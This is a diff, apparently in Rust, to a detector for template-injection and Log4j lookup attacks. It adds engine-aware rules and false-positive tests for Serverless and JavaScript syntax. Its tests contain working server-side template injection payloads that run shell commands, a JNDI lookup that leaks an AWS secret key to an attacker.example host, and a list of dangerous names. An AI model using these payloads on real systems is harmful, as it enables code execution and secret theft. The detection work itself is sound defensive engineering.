@@ -18,6 +18,7 @@ pub(super) const DANGEROUS_NAMES: &[&str] = &[
     "namespace",
     "url_for",
     "get_flashed_messages",
+    // Above: Jinja's globals (see `JINJA_GLOBALS`); below: names that run code in any engine.
     "getclass",
     "forname",
     "getruntime",
@@ -53,6 +54,11 @@ pub(super) const DANGEROUS_NAMES: &[&str] = &[
     "objectconstructor",
 ];
 
+/// The first names of `DANGEROUS_NAMES`: objects only Jinja-like engines (`{{ }}`, `{% %}`)
+/// hand a template. In `${ }` (a JavaScript template literal, EL) `config.awsAccountId` is an
+/// application's own variable.
+const JINJA_GLOBALS: usize = 9;
+
 /// Longest of `DANGEROUS_NAMES`.
 const LONGEST_NAME: usize = 20;
 
@@ -81,17 +87,58 @@ const fn first_index(c: u8) -> usize {
 /// What in a template expression only an attack needs. Read in place, in any case: a value
 /// can hold an expression every few bytes (`${::-j}` over and over), and copying each to
 /// lower case cost more than reading it.
-fn dangerous(expr: &str) -> Option<&'static str> {
-    let b = expr.as_bytes();
-    if b.windows(2).any(|w| w == b"__") {
-        return Some("object internals in a template expression");
+/// What the engine that `opener` belongs to runs.
+#[derive(Debug, Clone, Copy, PartialEq)]
+struct Engine {
+    /// Backticks run a shell command (ERB's `<% %>`, Ruby's `#{ }`); in a JavaScript template
+    /// literal's `${ }` they are a nested literal.
+    backticks_run: bool,
+    /// Jinja's globals (`config`, `request`, `cycler`) are in scope.
+    jinja: bool,
+}
+
+impl Engine {
+    fn of(opener: &str) -> Engine {
+        Engine {
+            backticks_run: matches!(opener, "<%" | "#{"),
+            jinja: matches!(opener, "{{" | "{%"),
+        }
     }
-    if b.contains(&b'`') {
+}
+
+/// Whether the name `b[start..end]` is a Python or JavaScript internal (`__class__`,
+/// `__proto__`) or a piece of one split across string literals (`'__cla'+'ss__'`); a name
+/// with `__` inside (`Config__TableName`) or only before it (`__dirname`) is not.
+fn is_internal(b: &[u8], start: usize, end: usize) -> bool {
+    let name = &b[start..end];
+    name.ends_with(b"__") || name.starts_with(b"__") && matches!(b.get(end), Some(b'\'' | b'"'))
+}
+
+fn dangerous(expr: &str, engine: Engine) -> Option<&'static str> {
+    let b = expr.as_bytes();
+    if memchr::memmem::find(b, b"__").is_some() {
+        let mut start = 0;
+        for (k, &c) in b.iter().chain(std::iter::once(&b' ')).enumerate() {
+            if !(c.is_ascii_alphanumeric() || c == b'_') {
+                if k > start + 1 && is_internal(b, start, k) {
+                    return Some("object internals in a template expression");
+                }
+                start = k + 1;
+            }
+        }
+    }
+    if engine.backticks_run && b.contains(&b'`') {
         return Some("a shell command in a template expression");
     }
     let names = b.split(|&c| !(c.is_ascii_alphanumeric() || c == b'_'));
     let mut lower = [0u8; LONGEST_NAME];
     for id in names.filter(|id| !id.is_empty() && id.len() <= LONGEST_NAME) {
+        // `self:` in `${self:provider.stage}` names where a Serverless Framework or EL
+        // variable comes from; no engine reaches an object written that way.
+        let end = id.as_ptr() as usize - b.as_ptr() as usize + id.len();
+        if is_source_prefix(b, end) {
+            continue;
+        }
         let lengths = NAME_LENGTHS
             .get(first_index(id[0].to_ascii_lowercase()))
             .copied()
@@ -102,7 +149,11 @@ fn dangerous(expr: &str) -> Option<&'static str> {
         let lower = &mut lower[..id.len()];
         lower.copy_from_slice(id);
         lower.make_ascii_lowercase();
-        if DANGEROUS_NAMES.iter().any(|n| n.as_bytes() == &*lower) {
+        let known = DANGEROUS_NAMES
+            .iter()
+            .position(|n| n.as_bytes() == &*lower)
+            .is_some_and(|k| engine.jinja || k >= JINJA_GLOBALS);
+        if known {
             return Some("engine globals or code execution in a template expression");
         }
     }
@@ -117,6 +168,11 @@ fn dangerous(expr: &str) -> Option<&'static str> {
         return Some("arithmetic on literals (a template-injection probe)");
     }
     None
+}
+
+/// Whether the name ending at `end` is followed by a single `:` (`self:`, `fn:`), not `::`.
+fn is_source_prefix(b: &[u8], end: usize) -> bool {
+    b.get(end) == Some(&b':') && b.get(end + 1) != Some(&b':')
 }
 
 /// `7*7`, `7 * '7'`, `191*7`: two literals and an operator, the canonical probe.
@@ -294,13 +350,11 @@ pub fn detect(value: &str, _strictness: Strictness) -> Option<Found> {
             if !rest.as_bytes().first().is_some_and(u8::is_ascii_alphabetic) {
                 continue;
             }
-            let lookup = [
-                "jndi:", "env:", "sys:", "java:", "ctx:", "main:", "spring:", "k8s:", "docker:",
-                "bundle:", "sd:", "web:", "base64:",
-            ]
-            .iter()
-            .any(|l| rest.starts_with(l));
-            if lookup {
+            // Only JNDI reaches the network. The other lookups (`${env:X}`, `${sys:X}`) write
+            // a secret into the application's own log and send it nowhere unless nested in a
+            // JNDI address, which this finds; alone they are what Serverless Framework
+            // configuration (`${env:BUCKET}`) and shell defaults look like.
+            if rest.starts_with("jndi:") {
                 return Some(Found::new(
                     "log4j-lookup",
                     "code-injection",
@@ -313,12 +367,12 @@ pub fn detect(value: &str, _strictness: Strictness) -> Option<Found> {
     }
     // Innermost expressions only: each closer pairs with the nearest opener before it, so
     // the work stays linear however the delimiters nest.
-    let mut open: Option<(usize, usize, &str)> = None;
+    let mut open: Option<(usize, usize, &str, Engine)> = None;
     let mut i = 0;
     while i < b.len() {
         // Bytes that neither open an expression nor close the open one, in a tight loop
         // (a branch per byte on what it opens costs a misprediction on varied text).
-        let closes = open.map(|(_, _, closer)| closer.as_bytes()[0]);
+        let closes = open.map(|(_, _, closer, _)| closer.as_bytes()[0]);
         while i < b.len() && !OPENS[b[i] as usize] && Some(b[i]) != closes {
             i += 1;
         }
@@ -326,15 +380,15 @@ pub fn detect(value: &str, _strictness: Strictness) -> Option<Found> {
             break;
         };
         if let Some((o, closer)) = opener_at(b, i) {
-            open = Some((i, i + o.len(), closer));
+            open = Some((i, i + o.len(), closer, Engine::of(o)));
             i += o.len();
             continue;
         }
-        if let Some((at, start, closer)) = open {
+        if let Some((at, start, closer, engine)) = open {
             if closer.as_bytes()[0] == c && b[i..].starts_with(closer.as_bytes()) {
                 let expr = &value[start..i];
                 if expr.len() <= 2048 {
-                    if let Some(what) = dangerous(expr) {
+                    if let Some(what) = dangerous(expr, engine) {
                         return Some(found(at, what));
                     }
                 }
@@ -427,19 +481,40 @@ mod tests {
     }
 
     /// `dangerous` as it was, on a lower-cased copy: the reference.
-    fn dangerous_on_a_copy(expr: &str) -> Option<&'static str> {
+    fn dangerous_on_a_copy(expr: &str, engine: Engine) -> Option<&'static str> {
         let lower = expr.to_ascii_lowercase();
-        if lower.contains("__") {
-            return Some("object internals in a template expression");
+        let mut rest = lower.as_str();
+        while !rest.is_empty() {
+            let name_len = rest
+                .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
+                .unwrap_or(rest.len());
+            let (id, after) = rest.split_at(name_len);
+            let split_literal = after.starts_with(['\'', '"']);
+            if id.len() > 1 && (id.ends_with("__") || id.starts_with("__") && split_literal) {
+                return Some("object internals in a template expression");
+            }
+            let skip = after.chars().next().map_or(0, char::len_utf8);
+            rest = &after[skip..];
         }
-        if lower.contains('`') {
+        if engine.backticks_run && lower.contains('`') {
             return Some("a shell command in a template expression");
         }
-        let idents = lower.split(|c: char| !(c.is_ascii_alphanumeric() || c == '_'));
-        for id in idents {
-            if DANGEROUS_NAMES.contains(&id) {
+        let mut rest = lower.as_str();
+        while !rest.is_empty() {
+            let name_len = rest
+                .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
+                .unwrap_or(rest.len());
+            let (id, after) = rest.split_at(name_len);
+            let prefix = after.starts_with(':') && !after.starts_with("::");
+            let known = DANGEROUS_NAMES
+                .iter()
+                .position(|n| *n == id)
+                .is_some_and(|k| engine.jinja || k >= JINJA_GLOBALS);
+            if known && !prefix {
                 return Some("engine globals or code execution in a template expression");
             }
+            let skip = after.chars().next().map_or(0, char::len_utf8);
+            rest = &after[skip..];
         }
         let t = lower.trim_start_matches(['=', '-', '#', ' ']);
         if t.starts_with("t(")
@@ -489,17 +564,26 @@ mod tests {
             "objectconstructor",
             "a.b",
             "\u{3000}",
+            ":",
+            "::",
+            "__class__",
+            "__dirname",
+            "a__b",
+            "\"",
         ];
-        let hits = crate::detect::agrees_with_reference(
-            PIECES,
-            17,
-            30_000,
-            60,
-            dangerous,
-            dangerous_on_a_copy,
-            Option::is_some,
-        );
-        assert!(hits > 5_000, "{hits}");
+        for opener in ["{{", "${", "<%"] {
+            let engine = Engine::of(opener);
+            let hits = crate::detect::agrees_with_reference(
+                PIECES,
+                17,
+                30_000,
+                60,
+                |e| dangerous(e, engine),
+                |e| dangerous_on_a_copy(e, engine),
+                Option::is_some,
+            );
+            assert!(hits > 5_000, "{hits}");
+        }
     }
 
     fn hit(v: &str) -> bool {
@@ -527,7 +611,13 @@ mod tests {
             "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
             "{% import os %}{{ os.system('id') }}",
             "{{''.__class__.__mro__[1].__subclasses__()}}",
-            "${env:AWS_SECRET_ACCESS_KEY}",
+            "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example}",
+            "#{`id`}",
+            "{{ ''['__cla'+'ss__'] }}",
+            "{{ ''['__class'+'__'] }}",
+            "{{ config.items() }}",
+            "${self.module.cache.util.os.system('id')}",
+            "${x.__proto__.polluted}",
             "{{#with \"s\" as |string|}}{{#with string.constructor}}{{/with}}{{/with}}",
         ] {
             assert!(hit(v), "missed: {v}");
@@ -549,6 +639,14 @@ mod tests {
             "See [[Main Page]]",
             "{{ 'Hello' }}",
             "{{ items.length }} items",
+            // Serverless Framework variables and a JavaScript template literal.
+            "TABLE: ${self:service}-${opt:stage, self:provider.stage}",
+            "CLIENT_ID: ${file(./config/${self:provider.stage}.yml):CLIENT_ID}",
+            "deploymentBucket: ${env:BUCKET}",
+            "className={`admin ${visible ? `shown` : ``}`}",
+            "arn:aws:sns:us-east-1:${config.awsAccountId}:analyzeNote",
+            "handler: `${handlerPath(__dirname)}/handler.main`",
+            "Resource: table/${self:provider.environment.DynamoDbConfiguration__TableName}",
         ] {
             assert!(!hit(v), "false positive: {v}");
         }
